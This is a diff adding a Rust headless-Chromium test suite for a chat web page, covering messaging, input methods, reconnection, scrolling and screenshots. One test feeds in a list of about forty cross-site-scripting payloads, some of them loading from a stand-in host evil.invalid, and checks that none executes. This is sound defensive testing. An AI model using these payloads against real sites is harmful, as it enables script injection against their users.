@@ -1,0 +1,706 @@
+//! The chat page in a real browser: what people see and do there, in a headless Chromium.
+//!
+//! Most tests run against the real daemon. Where a server has to misbehave, [`Impostor`] stands in for it.
+
+#[path = "support/browser.rs"]
+mod browser;
+mod support;
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::sync::mpsc::{self, Receiver, Sender};
+use std::time::Duration;
+
+use serde_json::{Value, json};
+use tungstenite::protocol::CloseFrame;
+use tungstenite::protocol::frame::coding::CloseCode;
+use tungstenite::{Message, WebSocket};
+
+use browser::{Browser, Device, Tab, quoted};
+use support::{Daemon, PATIENCE, Raw};
+
+/// Opens the page and waits until it is in the room and knows its name.
+fn enter(browser: &mut Browser, address: &str) -> Tab {
+    let mut tab = browser.open(&format!("http://{address}/"));
+    tab.wait_for("document.body.dataset.state === 'open' && document.querySelector('#me').textContent !== ''");
+    tab
+}
+
+/// Puts the focus into the text box by a click, types and sends: all of it as a person would.
+fn say(tab: &mut Tab, text: &str) {
+    tab.click("#text");
+    tab.type_text(text);
+    tab.press("Enter");
+}
+
+/// Waits until so many messages are on the screen.
+fn wait_for_messages(tab: &mut Tab, count: usize) {
+    tab.wait_for(&format!("document.querySelectorAll('.message').length >= {count}"));
+    assert_eq!(tab.evaluate("document.querySelectorAll('.message').length"), count);
+}
+
+/// The messages on the screen, each with its name and its text.
+fn messages(tab: &mut Tab) -> Vec<(String, String)> {
+    let rows = tab.evaluate(
+        "[...document.querySelectorAll('.message')].map((message) =>
+           ['.name', '.text'].map((part) => message.querySelector(part).textContent))",
+    );
+    serde_json::from_value(rows).unwrap()
+}
+
+fn my_name(tab: &mut Tab) -> String {
+    tab.text("document.querySelector('#me').textContent")
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn two_tabs_talk_to_each_other_in_any_script_and_see_who_said_what_when() {
+    let daemon = Daemon::start(&[]);
+    let mut browser = Browser::start();
+    let mut one = enter(&mut browser, &daemon.address);
+    let mut two = enter(&mut browser, &daemon.address);
+    let (first, second) = (my_name(&mut one), my_name(&mut two));
+    assert_ne!(first, second);
+
+    let greeting = "Hello from the first tab";
+    let answer = "你好，世界！👋🏽 مرحبا — ¿qué tal? 👩‍👩‍👧‍👦";
+    say(&mut one, greeting);
+    wait_for_messages(&mut one, 1);
+    wait_for_messages(&mut two, 1);
+    say(&mut two, answer);
+
+    for tab in [&mut one, &mut two] {
+        wait_for_messages(tab, 2);
+        let said = [(first.clone(), greeting.to_owned()), (second.clone(), answer.to_owned())];
+        assert_eq!(messages(tab), said, "each sees both, the own one once");
+        let times = "[...document.querySelectorAll('.message time')].every((time) =>
+            time.textContent !== '' && Math.abs(Date.now() - Date.parse(time.dateTime)) < 60_000)";
+        assert_eq!(tab.evaluate(times), true, "each message says when it was said");
+        assert_eq!(tab.evaluate("document.querySelectorAll('.message.mine').length"), 1);
+        assert_eq!(tab.text("document.querySelector('#text').value"), "");
+        assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
+    }
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn enter_sends_but_not_with_shift_and_not_while_an_input_method_composes() {
+    let daemon = Daemon::start(&[]);
+    let mut listener = daemon.open("/?quiet=1");
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &daemon.address);
+
+    tab.type_text("two");
+    tab.key("Enter", 13, "\r", 8);
+    tab.type_text("lines");
+    tab.press("Enter");
+    assert_eq!(listener.message(), "two\nlines");
+
+    // Pinyin is being typed, and Enter takes it over: for the page that is code 229, whatever the key says.
+    let pinyin = json!({ "text": "nihao", "selectionStart": 5, "selectionEnd": 5 });
+    tab.call("Input.imeSetComposition", &pinyin);
+    tab.key("Enter", 229, "", 0);
+    assert_eq!(tab.text("document.querySelector('#text').value"), "nihao", "it is still there, so it was not sent");
+    tab.type_text("你好");
+    tab.press("Enter");
+    assert_eq!(listener.message(), "你好");
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn the_keyboard_alone_is_enough() {
+    let daemon = Daemon::start(&[]);
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &daemon.address);
+    let focus = "document.activeElement.id";
+    assert_eq!(tab.text(focus), "text", "with a keyboard, one can type at once");
+
+    tab.evaluate("document.activeElement.blur()");
+    let mut stops = Vec::new();
+    while stops.last().is_none_or(|stop| stop != "text") {
+        assert!(stops.len() < 10, "Tab does not reach the box: {stops:?}");
+        tab.press("Tab");
+        stops.push(tab.text(focus));
+    }
+    assert!(stops.contains(&"view".to_owned()), "what was said can be scrolled by key: {stops:?}");
+    tab.type_text("no mouse here");
+    tab.press("Enter");
+    wait_for_messages(&mut tab, 1);
+    assert_eq!(tab.text(focus), "text", "and the next message can follow");
+}
+
+/// Each would do something if it got into the page as anything but text: set `pwned`, open a dialog, ask another host,
+/// take the place of an element. The last few do not run but show whether a text stays as it is.
+const HOSTILE: &[&str] = &[
+    "<script>pwned = 1</script>",
+    "<script src=http://evil.invalid/x.js></script>",
+    "<img src=x onerror=pwned=1>",
+    "<img src=http://evil.invalid/pixel.png>",
+    "\"><img src=x onerror=\"pwned=1\">",
+    "'><svg onload=pwned=1>",
+    "<svg><script>pwned=1</script></svg>",
+    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
+    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
+    "<iframe src=javascript:parent.pwned=1></iframe>",
+    "<object data=http://evil.invalid/x></object><embed src=http://evil.invalid/x>",
+    "<video><source onerror=pwned=1></video>",
+    "<audio src=x onerror=pwned=1>",
+    "<details open ontoggle=pwned=1>x</details>",
+    "<input autofocus onfocus=pwned=1>",
+    "<body onload=pwned=1 onpageshow=pwned=1>",
+    "<a href=javascript:pwned=1 id=send>click me</a>",
+    "[click me](javascript:pwned=1)",
+    "javascript:pwned=1",
+    "data:text/html,<script>pwned=1</script>",
+    "</title></textarea></ol></li></div><script>pwned=1</script>",
+    "<!-- <script>pwned=1</script> -->",
+    "<![CDATA[<script>pwned=1</script>]]>",
+    "<base href=http://evil.invalid/>",
+    "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">",
+    "<link rel=stylesheet href=http://evil.invalid/x.css>",
+    "<style>@import 'http://evil.invalid/x.css'; body { display: none }</style>",
+    "<form action=http://evil.invalid/ id=composer><input name=text></form>",
+    "<template shadowrootmode=open><script>pwned=1</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
+    "<ol id=log></ol><p id=text></p><img name=querySelector>",
+    "<x contenteditable autofocus onfocus=alert(1) tabindex=1>",
+    "';alert(1);//\\';alert(1);//",
+    "${pwned=1} {{constructor.constructor('pwned=1')()}} #{pwned=1} <%= pwned=1 %>",
+    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
+    "&lt;b&gt; &#60;script&#62;pwned=1&#60;/script&#62; &amp;amp;",
+    "__proto__",
+    "constructor",
+    "\u{202e}desrever\u{202c} \u{200b}\u{feff}\u{0} \u{1b}[31m \u{2028}",
+];
+
+/// Watches a page from its first moment on, and says afterwards that nothing has happened to it.
+struct Watch {
+    globals: BTreeSet<String>,
+}
+
+const GLOBALS: &str = "Object.getOwnPropertyNames(window)";
+
+impl Watch {
+    fn begin(tab: &mut Tab) -> Watch {
+        Watch { globals: serde_json::from_value(tab.evaluate(GLOBALS)).unwrap() }
+    }
+
+    fn nothing_happened(self, tab: &mut Tab, address: &str) {
+        // Whatever runs after the fact (an image that fails to load, say) is under way by now, before this request and
+        // these frames; so when they are done, it would have happened. A dialog fails the test as soon as it opens.
+        tab.evaluate(
+            "fetch('/healthz').then((answer) => answer.text()).then(() => new Promise((done) =>
+               requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 0)))))",
+        );
+        assert_eq!(tab.evaluate("'pwned' in window"), false);
+        let globals: BTreeSet<String> = serde_json::from_value(tab.evaluate(GLOBALS)).unwrap();
+        let new: Vec<_> = globals.difference(&self.globals).collect();
+        assert!(new.is_empty(), "new globals: {new:?}");
+        let tags =
+            "[...new Set([...document.querySelectorAll('#log *')].map((element) => element.tagName))].sort().join()";
+        let tags = tab.text(tags);
+        assert!(tags.split(',').all(|tag| ["BDI", "BUTTON", "DIV", "LI", "TIME"].contains(&tag)), "{tags}");
+        let attributes = "[...document.querySelectorAll('*')].some((element) =>
+            element.getAttributeNames().some((name) => name.startsWith('on')))";
+        assert_eq!(tab.evaluate(attributes), false);
+        assert_eq!(tab.evaluate("document.querySelectorAll('#log, #text, #send, #composer').length"), 4);
+        assert_eq!(tab.text("location.href"), format!("http://{address}/"));
+        assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
+        for url in tab.requests() {
+            assert!(
+                url.starts_with(&format!("http://{address}/")) || *url == format!("ws://{address}/"),
+                "a foreign request: {url}"
+            );
+        }
+    }
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn what_people_write_is_shown_as_they_wrote_it_and_never_runs() {
+    let daemon = Daemon::start(&["--no-rate-limit"]);
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &daemon.address);
+    let watch = Watch::begin(&mut tab);
+
+    let mut other = daemon.open("/?quiet=1");
+    for text in HOSTILE {
+        other.send_text(text);
+    }
+    wait_for_messages(&mut tab, HOSTILE.len());
+    // One's own words take another way through the page: out of the box and back from the room.
+    say(&mut tab, HOSTILE[0]);
+    wait_for_messages(&mut tab, HOSTILE.len() + 1);
+
+    let texts: Vec<String> = messages(&mut tab).into_iter().map(|(_, text)| text).collect();
+    assert_eq!(texts[..HOSTILE.len()], *HOSTILE);
+    assert_eq!(texts[HOSTILE.len()], HOSTILE[0]);
+    watch.nothing_happened(&mut tab, &daemon.address);
+}
+
+/// A server that gives out the daemon's own page, with its headers, but speaks WebSocket as a test tells it to.
+struct Impostor {
+    address: String,
+    visitors: Receiver<TcpStream>,
+}
+
+impl Impostor {
+    fn start(daemon: &Daemon) -> Impostor {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
+        let address = listener.local_addr().unwrap().to_string();
+        let (sender, visitors) = mpsc::channel();
+        let behind = daemon.address.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming().map_while(Result::ok) {
+                // Browsers open connections in advance and say nothing on them, so that none may hold up the others.
+                let (sender, behind) = (sender.clone(), behind.clone());
+                std::thread::spawn(move || Impostor::meet(stream, &behind, &sender));
+            }
+        });
+        Impostor { address, visitors }
+    }
+
+    fn meet(mut stream: TcpStream, behind: &str, visitors: &Sender<TcpStream>) {
+        let mut head = vec![0; 16 * 1024];
+        let len = loop {
+            match stream.peek(&mut head) {
+                Ok(0) | Err(_) => return,
+                Ok(len) if head[..len].windows(4).any(|bytes| bytes == b"\r\n\r\n") => break len,
+                Ok(_) => std::thread::sleep(Duration::from_millis(1)),
+            }
+        };
+        if String::from_utf8_lossy(&head[..len]).to_lowercase().contains("\r\nupgrade: websocket\r\n") {
+            let _ = visitors.send(stream);
+            return;
+        }
+        // A page is asked for, and the daemon answers: it closes the connection behind its answer, and so do we.
+        let mut request = vec![0; len];
+        let Ok(mut daemon) = TcpStream::connect(behind) else { return };
+        let mut answer = Vec::new();
+        if stream.read_exact(&mut request).is_ok()
+            && daemon.write_all(&request).is_ok()
+            && daemon.read_to_end(&mut answer).is_ok()
+        {
+            let _ = stream.write_all(&answer);
+        }
+    }
+
+    /// Waits for a page that asks for a WebSocket. It gets no answer yet.
+    fn visitor(&self) -> TcpStream {
+        self.visitors.recv_timeout(PATIENCE).expect("the page asks for a WebSocket")
+    }
+
+    /// Answers the handshake.
+    fn open(stream: TcpStream) -> WebSocket<TcpStream> {
+        stream.set_read_timeout(Some(PATIENCE)).unwrap();
+        tungstenite::accept(stream).expect("the page's handshake is a proper one")
+    }
+}
+
+fn tell(socket: &mut WebSocket<TcpStream>, event: &Value) {
+    socket.send(Message::text(event.to_string())).expect("the page listens");
+}
+
+fn welcome(name: &str) -> Value {
+    json!({ "type": "welcome", "room": "lobby", "online": 1, "users": [name], "last": 0, "name": name, "mess": "hello" })
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn a_hostile_server_cannot_make_the_page_run_anything_through_any_field() {
+    let daemon = Daemon::start(&[]);
+    let impostor = Impostor::start(&daemon);
+    let mut browser = Browser::start();
+    let mut tab = browser.open(&format!("http://{}/", impostor.address));
+    let mut socket = Impostor::open(impostor.visitor());
+    tab.wait_for("document.body.dataset.state === 'open'");
+    let watch = Watch::begin(&mut tab);
+
+    for (index, text) in HOSTILE.iter().enumerate() {
+        let me = format!("me {text}");
+        let fields =
+            json!({ "type": "welcome", "room": text, "online": text, "users": [text], "last": text, "name": me });
+        tell(&mut socket, &fields);
+        tell(&mut socket, &json!({ "type": "message", "room": text, "name": text, "mess": text, "time": text }));
+        tell(&mut socket, &json!({ "type": "join", "name": text, "mess": text, "online": text }));
+        tell(&mut socket, &json!({ "type": "error", "name": text, "mess": text, "code": text }));
+        tell(&mut socket, &json!({ "type": "error", "name": text, "mess": "", "code": text }));
+        tell(
+            &mut socket,
+            &json!({ "type": format!("new {text}"), "name": text, "mess": text, "from": text, "id": text }),
+        );
+        tell(&mut socket, &json!({ "type": text, "name": text, "mess": text, "to": text }));
+        wait_for_messages(&mut tab, index + 1);
+        tab.wait_for(&format!("document.querySelector('#room').textContent === {}", quoted(text)));
+        tab.wait_for(&format!("document.querySelector('#me').textContent === {}", quoted(&me)));
+    }
+
+    let pairs: Vec<_> = HOSTILE.iter().map(|text| (text.to_string(), text.to_string())).collect();
+    assert_eq!(messages(&mut tab), pairs);
+    let part =
+        |part: &str| format!("[...document.querySelectorAll('#log {part}')].map((element) => element.textContent)");
+    let twice: Vec<_> = HOSTILE.iter().flat_map(|text| [*text, *text]).collect();
+    assert_eq!(tab.evaluate(&part(".system.error .what")), json!(twice));
+    let named: Vec<_> =
+        HOSTILE.iter().flat_map(|text| [text.to_string(), format!("{text}:"), format!("{text}:")]).collect();
+    assert_eq!(tab.evaluate(&part(".system .who")), json!(named), "a join, and two events of unknown types");
+
+    watch.nothing_happened(&mut tab, &impostor.address);
+
+    // The reason of a Close is somebody's text as well.
+    let reason = "<img src=x onerror=pwned=1>";
+    socket.close(Some(CloseFrame { code: CloseCode::Policy, reason: reason.into() })).unwrap();
+    tab.wait_for(&format!("document.querySelector('#status-what').textContent.includes({})", quoted(reason)));
+    assert_eq!(tab.evaluate("document.querySelectorAll('#status img').length"), 0);
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn what_makes_no_sense_is_passed_over_and_the_page_goes_on() {
+    let daemon = Daemon::start(&[]);
+    let impostor = Impostor::start(&daemon);
+    let mut browser = Browser::start();
+    let mut tab = browser.open(&format!("http://{}/", impostor.address));
+    let mut socket = Impostor::open(impostor.visitor());
+    tell(&mut socket, &welcome("Tourist 1"));
+
+    for odd in [
+        "",
+        " ",
+        "null",
+        "true",
+        "17",
+        "\"text\"",
+        "[]",
+        "[1,2]",
+        "{",
+        "{}",
+        "{\"type\":null}",
+        "{\"type\":{}}",
+        "{\"type\":\"__proto__\"}",
+        "{\"type\":\"constructor\"}",
+        "{\"type\":\"hasOwnProperty\"}",
+        "{\"__proto__\":{\"type\":\"message\"}}",
+        "{\"type\":\"join\"}",
+        "{\"type\":\"online\",\"online\":-1e400}",
+        "{\"type\":\"welcome\",\"last\":1e300,\"online\":null}",
+        "{\"type\":\"new\",\"name\":[[]],\"mess\":{\"a\":1}}",
+        "{\"type\":\"new\",\"name\":{\"toString\":1,\"valueOf\":1},\"mess\":\"x\"}",
+        "{\"type\":\"error\",\"code\":{\"toString\":1,\"valueOf\":1}}",
+        "\u{0}",
+        "not JSON at all",
+    ] {
+        socket.send(Message::text(odd)).unwrap();
+    }
+    socket.send(Message::binary(vec![0, 255, 254])).unwrap();
+    tell(&mut socket, &json!({ "type": "message", "name": "Tourist 2", "mess": "still here?", "time": 9e15, "id": 1 }));
+    tell(
+        &mut socket,
+        &json!({ "type": "message", "name": 7, "mess": [1, 2], "time": { "toString": 1, "valueOf": 1 }, "id": 2 }),
+    );
+
+    wait_for_messages(&mut tab, 2);
+    let seen = [("Tourist 2".to_owned(), "still here?".to_owned()), ("7".to_owned(), "[1,2]".to_owned())];
+    assert_eq!(messages(&mut tab), seen);
+    assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn nothing_is_sent_before_the_connection_is_open_and_what_was_typed_stays() {
+    let daemon = Daemon::start(&[]);
+    let impostor = Impostor::start(&daemon);
+    let mut browser = Browser::start();
+    let mut tab = browser.open(&format!("http://{}/", impostor.address));
+    let waiting = impostor.visitor();
+
+    assert_eq!(tab.text("document.body.dataset.state"), "connecting");
+    assert_eq!(tab.evaluate("document.querySelector('#send').disabled"), true);
+    tab.type_text("too early");
+    tab.press("Enter");
+    tab.click("#send");
+    assert_eq!(tab.text("document.querySelector('#text').value"), "too early");
+    assert!(tab.text("document.querySelector('#hint').textContent").starts_with("Not connected yet"));
+
+    let mut socket = Impostor::open(waiting);
+    tell(&mut socket, &welcome("Tourist 1"));
+    tab.wait_for("document.body.dataset.state === 'open' && !document.querySelector('#send').disabled");
+    tab.click("#text");
+    tab.type_text(", and then in time");
+    tab.click("#send");
+    // Had anything been sent before, or been kept to be sent later, it would come first.
+    let first = socket.read().expect("the page speaks");
+    assert_eq!(first, Message::text("too early, and then in time"));
+    tab.wait_for("document.querySelector('#text').value === ''");
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn a_page_comes_back_by_itself_when_the_daemon_was_killed_and_started_again() {
+    let daemon = Daemon::start(&[]);
+    let address = daemon.address.clone();
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &address);
+    say(&mut tab, "before");
+    wait_for_messages(&mut tab, 1);
+    tab.evaluate("window.notReloaded = true");
+
+    drop(daemon); // kill -9: no goodbye, and nothing kept
+    tab.wait_for("document.body.dataset.state === 'waiting'");
+    assert_eq!(tab.evaluate("document.querySelector('#send').disabled"), true);
+    assert_eq!(tab.evaluate("document.querySelector('#retry').hidden"), false);
+    say(&mut tab, "while it is away");
+    assert_eq!(tab.text("document.querySelector('#text').value"), "while it is away");
+
+    let daemon = Daemon::start_without_address(&["--listen", &address]);
+    assert_eq!(daemon.address, address);
+    let mut listener = daemon.open("/?quiet=1");
+    tab.wait_for("document.body.dataset.state === 'open'");
+    assert_eq!(tab.evaluate("window.notReloaded"), true);
+    assert_eq!(tab.text("document.querySelector('#text').value"), "while it is away", "it waits for its writer");
+    tab.press("Enter");
+    assert_eq!(listener.message(), "while it is away");
+    wait_for_messages(&mut tab, 2);
+    let texts: Vec<String> = messages(&mut tab).into_iter().map(|(_, text)| text).collect();
+    assert_eq!(texts, ["before", "while it is away"], "what was said before is still to be read");
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn a_page_that_missed_something_is_shown_it_once_and_in_order_when_it_comes_back() {
+    let daemon = Daemon::start(&[]);
+    let impostor = Impostor::start(&daemon);
+    let mut browser = Browser::start();
+    let mut tab = browser.open(&format!("http://{}/", impostor.address));
+    let message = |id: u64, text: &str| {
+        let mut event = json!({ "type": "message", "room": "lobby", "name": "Tourist 9", "mess": text });
+        event["id"] = json!(id);
+        event["time"] = json!(1_763_817_427_000 + id);
+        event
+    };
+    let mut socket = Impostor::open(impostor.visitor());
+    tell(&mut socket, &welcome("Tourist 1"));
+    tell(&mut socket, &message(1, "one"));
+    tell(&mut socket, &message(2, "two"));
+    wait_for_messages(&mut tab, 2);
+    drop(socket);
+
+    let mut socket = Impostor::open(impostor.visitor());
+    let mut back = welcome("Tourist 2");
+    back["last"] = json!(3);
+    tell(&mut socket, &back);
+    for (id, text) in [(1, "one"), (2, "two"), (3, "three"), (4, "four")] {
+        tell(&mut socket, &message(id, text));
+    }
+    wait_for_messages(&mut tab, 4);
+    let texts: Vec<String> = messages(&mut tab).into_iter().map(|(_, text)| text).collect();
+    assert_eq!(texts, ["one", "two", "three", "four"]);
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn a_browser_without_websocket_is_told_so() {
+    let daemon = Daemon::start(&[]);
+    let mut browser = Browser::start();
+    let mut tab = browser.open_with(&format!("http://{}/", daemon.address), "delete window.WebSocket");
+    tab.wait_for("document.body.dataset.state === 'unsupported'");
+    assert_eq!(tab.evaluate("document.querySelector('#alarm').checkVisibility()"), true);
+    assert!(tab.text("document.querySelector('#alarm').innerText").contains("no WebSocket"));
+    assert_eq!(
+        tab.evaluate("document.querySelector('#text').disabled && document.querySelector('#send').disabled"),
+        true
+    );
+    assert!(tab.complaints().is_empty(), "{:?}", tab.complaints());
+}
+
+const AT_END: &str = "(({ scrollTop, clientHeight, scrollHeight }) => scrollTop + clientHeight >= scrollHeight - 1)
+    (document.querySelector('#view'))";
+
+/// Says lines and waits until the page has them all, `before` and these.
+fn chatter(other: &mut Raw, tab: &mut Tab, before: usize, count: usize) {
+    for line in 1..=count {
+        other.send_text(&format!("line {}", before + line));
+    }
+    wait_for_messages(tab, before + count);
+}
+
+/// Scrolls, and waits for the end of it: browsers scroll smoothly, so a position means little until it has come to rest.
+fn and_let_it_rest(tab: &mut Tab, scroll: impl FnOnce(&mut Tab)) {
+    tab.evaluate(
+        "window.rested = false;
+         document.querySelector('#view').addEventListener('scrollend', () => { window.rested = true; }, { once: true })",
+    );
+    scroll(tab);
+    tab.wait_for("window.rested");
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn the_room_stays_at_its_end_unless_somebody_reads_further_up() {
+    let daemon = Daemon::start(&["--no-rate-limit"]);
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &daemon.address);
+    let mut other = daemon.open("/?quiet=1");
+    chatter(&mut other, &mut tab, 0, 100);
+    tab.wait_for(AT_END);
+    assert_eq!(tab.evaluate("document.querySelector('#newer').hidden"), true);
+
+    and_let_it_rest(&mut tab, |tab| tab.wheel("#view", -600));
+    let place = tab.evaluate("document.querySelector('#view').scrollTop");
+    chatter(&mut other, &mut tab, 100, 3);
+    tab.wait_for("!document.querySelector('#newer').hidden");
+    assert_eq!(
+        tab.evaluate("document.querySelector('#view').scrollTop"),
+        place,
+        "nobody is torn away from what they read"
+    );
+    assert_eq!(tab.text("document.querySelector('#newer').textContent"), "3 new messages ↓");
+
+    tab.click("#newer");
+    tab.wait_for(AT_END);
+    tab.wait_for("document.querySelector('#newer').hidden");
+    chatter(&mut other, &mut tab, 103, 20);
+    tab.wait_for(AT_END);
+
+    // By key as well, and one's own message leads back to the end.
+    tab.evaluate("document.querySelector('#view').focus()");
+    and_let_it_rest(&mut tab, |tab| tab.press("PageUp"));
+    assert_eq!(tab.evaluate(AT_END), false);
+    say(&mut tab, "and back");
+    wait_for_messages(&mut tab, 124);
+    tab.wait_for(AT_END);
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn the_title_counts_what_was_said_while_nobody_looked() {
+    let daemon = Daemon::start(&[]);
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &daemon.address);
+    let mut other = daemon.open("/?quiet=1");
+    chatter(&mut other, &mut tab, 0, 1);
+    assert_eq!(tab.text("document.title"), "roomd");
+
+    let look = |tab: &mut Tab, hidden: bool| {
+        tab.evaluate(&format!(
+            "Object.defineProperty(document, 'hidden', {{ configurable: true, value: {hidden} }});
+             document.dispatchEvent(new Event('visibilitychange'))"
+        ));
+    };
+    look(&mut tab, true);
+    chatter(&mut other, &mut tab, 1, 2);
+    tab.wait_for("document.title === '(2) roomd'");
+    drop(other); // somebody leaves, which is nothing to read
+    tab.wait_for("document.querySelector('#log').lastElementChild.matches('.system')");
+    assert_eq!(tab.text("document.title"), "(2) roomd");
+    look(&mut tab, false);
+    assert_eq!(tab.text("document.title"), "roomd");
+}
+
+/// A morning among tourists, as the pictures show it: who says what, `0` being the page itself.
+const MORNING: &[(usize, &str)] = &[
+    (1, "Good morning! Does anybody know when the museum opens?"),
+    (2, "At nine. Closed on Mondays, but today we are lucky 🙂"),
+    (3, "早上好！我们在南门等你们，旁边有一家很好吃的早餐店 🥢"),
+    (0, "太好了，我们十分钟后到！"),
+    (0, "They are waiting at the south gate, and there is breakfast"),
+    (1, "Say no more, I am on my way 🏃"),
+    (2, "South gate… is that this side of the river?"),
+    (3, "过了桥往右走，看到那棵大榕树就到了 🌳"),
+    (2, "Over the bridge, right, big tree. 谢谢！"),
+    (0, "See you under the big tree 🥟"),
+];
+
+/// Lets the page and three more tourists talk, each after having heard the one before.
+fn lively_room(daemon: &Daemon, tab: &mut Tab) -> Vec<Raw> {
+    let mut guests: Vec<Raw> = (1..=3).map(|_| daemon.open("/?quiet=1")).collect();
+    tab.wait_for("document.querySelector('#status-more').textContent === '4 people'");
+    for (index, (who, text)) in MORNING.iter().enumerate() {
+        match who {
+            0 => say(tab, text),
+            guest => guests[guest - 1].send_text(text),
+        }
+        wait_for_messages(tab, index + 1);
+    }
+    guests
+}
+
+/// Waits until the browser has drawn what there is now.
+fn drawn(tab: &mut Tab) {
+    tab.evaluate(
+        "document.fonts.ready.then(() => new Promise((done) =>
+           requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 0)))))",
+    );
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn on_a_phone_nothing_reaches_over_the_edge() {
+    let daemon = Daemon::start(&[]);
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &daemon.address);
+    tab.resize(360, 640, Device::Phone);
+    let mut guests = lively_room(&daemon, &mut tab);
+    let address = format!("https://example.com/{}", "a/".repeat(200));
+    let long = ["W".repeat(400), "汉".repeat(400), address, "👩‍👩‍👧‍👦".repeat(60)];
+    for text in &long {
+        guests[0].send_text(text);
+    }
+    wait_for_messages(&mut tab, MORNING.len() + long.len());
+    tab.type_text(&"M".repeat(300));
+    drawn(&mut tab);
+
+    assert_eq!(tab.evaluate("innerWidth"), 360);
+    for element in ["document.documentElement", "document.body", "document.querySelector('#view')"] {
+        assert_eq!(tab.evaluate(&format!("{element}.scrollWidth <= {element}.clientWidth")), true, "{element} scrolls");
+    }
+    // What is cut off cannot be scrolled to, but cannot be read either.
+    let outside = "[...document.querySelectorAll('body *')].filter((element) => element.checkVisibility())
+        .filter((element) => { const { left, right } = element.getBoundingClientRect(); return left < 0 || right > 360; })
+        .map((element) => `${element.tagName} ${element.className}`)";
+    assert_eq!(tab.evaluate(outside), json!([]));
+    assert_eq!(tab.evaluate("document.querySelector('#send').getBoundingClientRect().bottom <= innerHeight"), true);
+}
+
+/// Beside the test's own directory, so that people find them: target/screenshots.
+fn screenshots() -> PathBuf {
+    let directory = Path::new(env!("CARGO_TARGET_TMPDIR")).with_file_name("screenshots");
+    fs::create_dir_all(&directory).expect("there is a place for pictures");
+    directory
+}
+
+#[test]
+#[ignore = "needs Chromium: tests/run installs it and runs this"]
+fn pictures_of_a_lively_room_are_taken_wide_and_narrow_light_and_dark() {
+    let daemon = Daemon::start(&[]);
+    let mut browser = Browser::start();
+    let mut tab = enter(&mut browser, &daemon.address);
+    let _guests = lively_room(&daemon, &mut tab);
+    let directory = screenshots();
+
+    let mut grounds = BTreeSet::new();
+    for (shape, width, height, device) in [("wide", 1100, 700, Device::Desk), ("narrow", 390, 780, Device::Phone)] {
+        for scheme in ["light", "dark"] {
+            tab.resize(width, height, device);
+            tab.prefer_colours(scheme);
+            drawn(&mut tab);
+            tab.wait_for(AT_END);
+            grounds.insert(tab.text("getComputedStyle(document.body).backgroundColor"));
+
+            let picture = tab.screenshot();
+            fs::write(directory.join(format!("{shape}-{scheme}.png")), &picture).expect("the picture can be kept");
+            let (signature, rest) = picture.split_at(8);
+            assert_eq!(signature, b"\x89PNG\r\n\x1a\n");
+            let number = |at: usize| u32::from_be_bytes(*rest[at..].first_chunk().unwrap());
+            let dots = if device == Device::Phone { 2 } else { 1 };
+            assert_eq!((number(8), number(12)), (width * dots, height * dots), "its header says its size");
+            // One colour all over would take some 5 kB.
+            assert!(picture.len() > 20_000, "{shape}-{scheme} shows nothing: {} bytes", picture.len());
+        }
+    }
+    assert_eq!(grounds.len(), 2, "light is not dark: {grounds:?}");
+}
